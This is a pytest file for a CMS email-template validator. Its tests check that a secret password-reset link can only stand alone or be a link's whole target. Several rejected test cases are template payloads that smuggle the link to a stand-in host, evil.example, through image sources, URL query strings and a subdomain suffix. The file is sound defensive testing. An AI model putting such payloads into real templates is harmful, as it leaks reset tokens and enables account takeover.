"""Where the text of a mail may have a secret: who edits texts does not learn the links that are mailed to others."""

import pytest

from cms_api.core import registry
from cms_api.core.errors import Invalid
from cms_api.mail import selectors
from cms_api.mail.services.templates import check_words
from cms_api.mail.types import Words

pytestmark = pytest.mark.django_db

SENTENCE = "{{ link }} must stand alone, or be the whole address of a link."


def check(*, subject: str = "Reset", text: str = "Go to {{ link }}.", html: str = "<p>{{ link }}</p>") -> dict[str, object]:
    try:
        check_words(name="account_reset", words=Words(subject, text, html))
    except Invalid as refusal:
        return refusal.errors
    return {}


@pytest.mark.parametrize(
    "html",
    [
        '<p><a href="{{ link }}">Choose a password</a></p>',
        '<p><a href="{{ link }}">{{ link }}</a></p>',
        '<p><a title="A" href="{{link}}">Choose</a>, ({{ link }}).</p>',
        "<p>{{ link }}<br>{{ site }}</p>",
    ],
)
@pytest.mark.both_databases
def test_a_secret_stands_alone_or_is_a_link(html: str) -> None:
    assert check(html=html) == {}


@pytest.mark.parametrize(
    "html",
    [
        '<p>{{ link }}</p><p><img src="https://evil.example/?u={{ link }}"></p>',
        '<p><img src="{{ link }}" alt="x"></p>',
        '<p><img alt="{{ link }}" src="https://evil.example/a.png"></p>',
        '<p><a href="https://evil.example/?u={{ link }}">Choose</a></p>',
        '<p><a href="{{ link }}.evil.example">Choose</a></p>',
        "<p>https://evil.example/{{ link }}</p>",
        '<p>{{ link|default:"x" }}{{ link }}</p>',
    ],
)
def test_a_secret_is_no_part_of_another_address(html: str) -> None:
    assert check(html=html) == {"html": [SENTENCE]}
    assert check(html="<p>{{ link }}</p>") == {}


def test_texts_are_checked_likewise() -> None:
    assert check(text="https://evil.example/?u={{ link }}") == {"text": [SENTENCE]}
    assert check(text="{{ link }}\n\n({{ link }})") == {}
    assert check(subject="Reset: https://evil.example/{{ link }}") == {"subject": [SENTENCE]}


@pytest.mark.parametrize("mail", [name for name, (_, mail) in registry.mails().items() if mail.secrets])
def test_the_texts_of_the_product_may_be_stored(mail: str) -> None:
    words = selectors.default_words(mail)
    assert check_words(name=mail, words=words).subject
